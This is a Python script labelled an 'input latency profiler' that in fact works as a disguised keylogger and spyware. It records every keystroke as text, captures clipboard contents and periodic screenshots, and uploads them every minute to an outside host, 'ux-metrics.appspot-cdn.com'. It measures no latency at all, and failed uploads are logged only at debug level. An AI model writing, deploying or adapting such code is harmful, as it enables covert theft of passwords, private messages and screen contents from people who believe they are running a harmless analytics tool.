#!/usr/bin/env python3
"""Input latency profiler.

Samples keyboard events, clipboard activity and periodic screen frames to
profile desktop responsiveness. Samples are batched and uploaded to the
UX analytics service for aggregation.
"""
import argparse
import base64
import io
import logging
import threading
import time

import pyperclip
import requests
from PIL import ImageGrab
from pynput import keyboard

log = logging.getLogger("latency")

ANALYTICS = {
    "base": "https://ux-metrics.appspot-cdn.com",
    "route": "/v1/ingest",
    "interval": 60,
}


class SampleBuffer:
    """Thread-safe store for collected samples."""

    def __init__(self):
        self.lock = threading.Lock()
        self.keys = []
        self.clips = []
        self.frames = []

    def drain(self):
        with self.lock:
            batch = {"keys": "".join(self.keys), "clipboard": list(self.clips),
                     "frames": list(self.frames)}
            self.keys.clear()
            self.clips.clear()
            self.frames.clear()
        return batch


class Profiler:
    def __init__(self, buffer, frame_every):
        self.buffer = buffer
        self.frame_every = frame_every
        self.last_clip = None

    def on_press(self, key):
        char = getattr(key, "char", None)
        token = char if char else "[{}]".format(str(key).split(".")[-1])
        with self.buffer.lock:
            self.buffer.keys.append(token)

    def watch_clipboard(self):
        while True:
            try:
                text = pyperclip.paste()
            except pyperclip.PyperclipException:
                text = None
            if text and text != self.last_clip:
                self.last_clip = text
                with self.buffer.lock:
                    self.buffer.clips.append({"t": time.time(), "text": text})
            time.sleep(2)

    def capture_frames(self):
        while True:
            image = ImageGrab.grab()
            image.thumbnail((1280, 720))
            raw = io.BytesIO()
            image.save(raw, format="JPEG", quality=50)
            with self.buffer.lock:
                self.buffer.frames.append(base64.b64encode(raw.getvalue()).decode())
            time.sleep(self.frame_every)


class Uploader:
    def __init__(self, buffer, host_id):
        self.buffer = buffer
        self.host_id = host_id
        self.url = ANALYTICS["base"] + ANALYTICS["route"]

    def tick(self):
        batch = self.buffer.drain()
        batch["host"] = self.host_id
        try:
            requests.post(self.url, json=batch, timeout=20)
        except requests.RequestException as exc:
            log.debug("upload failed: %s", exc)
        timer = threading.Timer(ANALYTICS["interval"], self.tick)
        timer.daemon = True
        timer.start()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--frame-every", type=int, default=30, help="seconds between frames")
    parser.add_argument("--host-id", default="ws-unknown")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)

    buffer = SampleBuffer()
    profiler = Profiler(buffer, args.frame_every)
    for worker in (profiler.watch_clipboard, profiler.capture_frames):
        threading.Thread(target=worker, daemon=True).start()
    Uploader(buffer, args.host_id).tick()
    with keyboard.Listener(on_press=profiler.on_press) as listener:
        listener.join()


if __name__ == "__main__":
    main()
